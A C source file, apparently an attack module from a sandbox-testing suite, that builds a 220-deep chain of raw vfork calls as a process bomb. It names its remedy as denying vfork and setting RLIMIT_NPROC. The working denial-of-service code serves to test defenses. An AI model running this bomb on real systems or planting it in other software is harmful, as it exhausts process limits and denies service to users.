// SPDX-License-Identifier: MIT
/*
 * vfork-chain.c - a process bomb that stands on one stack.
 *
 * Goal: fill the task budget.
 * Means: vfork(2) suspends the parent until the child execs or exits. A child that does neither,
 * and calls vfork again, leaves behind a chain of suspended parents, 220 deep. All of them share
 * one address space, so the bomb costs no memory, and RLIMIT_AS never hears of it.
 *
 * The call is made by hand: a library function would return through a stack frame which the child
 * has long overwritten when its parent wakes. Here a parent wakes only to leave, and because
 * memory is shared it leaves with the claim of the last child.
 */
#include "attacks/attack.h"

#include <errno.h>
#include <sys/syscall.h>
#include <unistd.h>

#define TASKS 220

static inline __attribute__((always_inline)) long raw_vfork(void)
{
	long result;

	__asm__ volatile("syscall" : "=a"(result) : "0"((long)SYS_vfork) : "rcx", "r11", "memory");
	return result;
}

static enum claim run(const struct brief *b)
{
	static volatile enum claim claim = CLAIM_FAILED;
	static volatile int depth;

	attempting(b);
	for (depth = 0; depth < TASKS; depth++) {
		long pid = raw_vfork();

		if (pid > 0)
			_exit((int)claim);
		if (pid < 0) {
			errno = (int)-pid;
			claim = denied("vfork");
			_exit((int)claim);
		}
	}
	claim = hold();
	_exit((int)claim);
}

const struct attack attack = {
	.effect = "more processes than the budget",
	.means =
		"a chain of vfork(2) calls: 220 processes on one stack, all but the last suspended",
	.oracle = "census",
	.needs = NEED_X86_64,
	.id = "FORK-02",
	.attack_id = "T1499.001, CWE-770",
	.remedy = "deny vfork beside fork, clone and clone3; RLIMIT_NPROC",
	.run = run,
};
